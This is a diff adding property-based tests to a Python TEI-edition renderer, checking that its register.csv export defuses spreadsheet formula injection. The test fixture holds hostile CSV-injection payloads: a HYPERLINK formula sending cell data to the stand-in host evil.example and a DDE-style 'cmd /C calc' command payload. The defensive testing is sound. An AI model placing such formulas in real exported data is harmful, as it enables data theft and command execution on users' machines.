@@ -14,6 +14,8 @@ Each item ends with properties (Hypothesis) over names, ids and cells drawn from
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import re
 import shutil
@@ -31,7 +33,7 @@ from teikit.cli import cli
 from teikit.errors import InputError
 from teikit.paths import output_path
 from teikit.pipeline import convert_file, tei_bytes, write_landing_page
-from teikit.render import render_edition, render_tree, render_views
+from teikit.render import FORMULA_STARTS, REGISTER_FIELDS, register_csv, render_edition, render_tree, render_views
 
 from conftest import ROOT
 
@@ -338,3 +340,63 @@ def test_every_link_the_views_write_is_relative_or_http_and_leads_where_it_says(
         f"{name}/{file}" for file in ("reading.html", "reading.html", "diplomatic.html", "index.html", "register.csv")]
     fragments = {unquote(link.partition("#")[2]) for page in views.values() for link in links_in(page) if "#" in link}
     assert {entry_id, passage_id, note_id, "fnref-" + note_id} <= fragments
+
+
+# ---------------------------------------------------------------- 9. formulas in register.csv
+
+
+FORMULA_TEI = """<TEI xmlns="http://www.tei-c.org/ns/1.0" xml:lang="en">
+  <teiHeader><fileDesc><titleStmt><title type="main">A register of formulas</title></titleStmt>
+    <publicationStmt><p>Test.</p></publicationStmt><sourceDesc><p>Test.</p></sourceDesc></fileDesc></teiHeader>
+  <standOff>
+    <listPerson>
+      <person xml:id="link"><persName type="standard">=HYPERLINK("http://evil.example/?d="&amp;A1,"Smith")</persName>
+        <persName type="variant">@SUM(1+1)*cmd|' /C calc'!A0</persName><note>-2+3 a spy</note></person>
+      <person xml:id="plus"><persName type="standard">+44 20 7946 0000</persName><birth when="-0044"/></person>
+    </listPerson>
+    <listPlace>
+      <place xml:id="here"><placeName type="standard">Here, "quoted"; and split</placeName>
+        <placeName type="modern">=1+1</placeName></place>
+    </listPlace>
+  </standOff>
+  <text><body><div type="letter"><p>Nothing.</p></div></body></text>
+</TEI>
+"""
+
+
+def test_register_names_that_look_like_formulas_reach_the_spreadsheet_as_text(tmp_path):
+    tei = tmp_path / "formulas.xml"
+    tei.write_text(FORMULA_TEI, encoding="utf-8")
+
+    assert run("render", str(tei), "-o", str(tmp_path / "site")).exit_code == 0
+
+    with (tmp_path / "site" / "formulas" / "register.csv").open(encoding="utf-8", newline="") as handle:
+        rows = {row["id"]: row for row in csv.DictReader(handle)}
+    assert rows["link"]["name"] == """'=HYPERLINK("http://evil.example/?d="&A1,"Smith")"""
+    assert rows["link"]["variants"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert rows["link"]["identification"] == "'-2+3 a spy"
+    assert rows["plus"]["name"] == "'+44 20 7946 0000" and rows["plus"]["birth"] == "'-0044"
+    assert rows["here"]["name"] == 'Here, "quoted"; and split' and rows["here"]["modern_name"] == "'=1+1"
+    assert rows["here"]["mentions"] == "0"
+    data = (tmp_path / "site" / "formulas" / "register.json").read_text(encoding="utf-8")
+    assert '"name": "=HYPERLINK(' in data  # the JSON is data, not a spreadsheet: it keeps the name as it is
+
+
+#: Cells as the registers (XML) can hold them, half of them starting like a formula.
+csv_cells = st.one_of(hostile, st.sampled_from(FORMULA_STARTS).flatmap(lambda start: hostile.map(start.__add__))
+                      ).map(xml_safe)
+
+
+@settings(max_examples=200, deadline=None)
+@given(cells=st.lists(csv_cells, min_size=len(REGISTER_FIELDS) + 1, max_size=len(REGISTER_FIELDS) + 1))
+def test_no_cell_of_register_csv_starts_like_a_formula(cells):
+    record = dict(zip(REGISTER_FIELDS, cells))
+    record.update(variants=cells[-2:], mentions=len(cells))
+
+    rows = list(csv.reader(io.StringIO(register_csv([record]).decode("utf-8"), newline="")))
+
+    assert len(rows) == 2 and len(rows[1]) == len(REGISTER_FIELDS)
+    for key, cell in zip(REGISTER_FIELDS, rows[1]):
+        assert not cell.startswith(FORMULA_STARTS)
+        written = " | ".join(record["variants"]) if key == "variants" else str(record[key])
+        assert cell in (written, "'" + written)  # nothing lost but the quote put in front
